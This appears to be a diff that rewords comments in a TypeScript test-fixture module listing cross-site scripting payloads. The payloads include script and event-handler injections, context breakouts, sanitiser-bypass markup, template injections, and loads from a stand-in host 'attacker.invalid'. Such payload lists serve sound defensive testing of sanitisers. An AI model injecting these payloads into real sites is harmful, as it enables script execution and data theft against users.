@@ -1,9 +1,9 @@
-/** Where whatever a payload would load lies: nobody has this host, and nothing may ask for it. */
+/** The attacker's host: it does not exist, and nothing may request it. */
 export const attackerHost = "attacker.invalid";
 
 /**
- * Texts that run `hit()`, ask the attacker's host for something or leave an element with the attribute `hit` behind, wherever
- * one of them is taken for anything but text.
+ * Texts that run `hit()`, request the attacker's host or leave an element with the attribute `hit` behind, if one of them is treated as anything but
+ * text.
  */
 const usual: readonly string[] = [
   "<script hit>hit()</script>",
@@ -11,7 +11,7 @@ const usual: readonly string[] = [
   "<svg hit onload=hit()>",
   '"><img hit src=x onerror=hit()>',
   "'><svg hit onload=hit()>",
-  // Out of what stands around it in a page that a server writes: data in a script, a title, a comment, a style.
+  // Break out of their context in a page that a server writes: data in a script, a title, a comment, a style.
   "</script><script hit>hit()</script>",
   "<!--<script><script hit>hit()</script>",
   "--><script hit>hit()</script>",
@@ -44,7 +44,7 @@ const usual: readonly string[] = [
   `<style hit>@import "//${attackerHost}/x.css";</style>`,
   `<img hit src=//${attackerHost}/pixel.gif>`,
   `<b hit style="background:url(//${attackerHost}/x.gif)">b</b>`,
-  // Events that need nobody to press anything.
+  // Events that fire without a click.
   "<input hit autofocus onfocus=hit()>",
   "<details hit open ontoggle=hit()>x</details>",
   "<video hit><source onerror=hit()></video>",
@@ -55,7 +55,7 @@ const usual: readonly string[] = [
   "<svg hit><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
   "<svg><script hit>hit&#40;&#41;</script></svg>",
   '<math hit><maction actiontype="statusline#" xlink:href="javascript:hit()">x</maction></math>',
-  // What a sanitiser or a second parser may put together again.
+  // Markup that a sanitiser or a second parser may reassemble.
   '<math><mtext><table><mglyph><style><!--</style><img hit title="--&gt;&lt;img src=x onerror=hit()&gt;">',
   '<noscript><p title="</noscript><img hit src=x onerror=hit()>"></noscript>',
   "<template hit><script>hit()</script></template>",
@@ -68,7 +68,7 @@ const usual: readonly string[] = [
   "\\u003cscript hit\\u003ehit()\\u003c/script\\u003e",
   "\uFF1Cscript hit\uFF1Ehit()\uFF1C/script\uFF1E",
   "\u202E<script hit>hit()</script>",
-  // Templates: of i18next, of frameworks that read double braces, of Markdown.
+  // Templates: of i18next, of frameworks with double braces, of Markdown.
   "{{constructor.constructor('hit()')()}}",
   "$t(hit) {{hit}} {{- hit}}",
   "${hit()}",
@@ -76,9 +76,9 @@ const usual: readonly string[] = [
   "<b hit>b</b>",
 ];
 
-/** What a payload may have to break out of before it is anything. */
+/** Contexts that a payload may have to break out of first. */
 const breakouts = ["", `">`, "'>", "</script>", "</title>", "</style>", "</textarea>", "--!>", "]]>", "</svg>"];
 
-/** The usual ones, or each of them behind each way out: more than five hundred. */
+/** The usual ones, or each of them after each way out: more than five hundred. */
 export const scriptPayloads = (all: boolean): readonly string[] =>
   all ? [...new Set(breakouts.flatMap((out) => usual.map((payload) => out + payload)))] : usual;
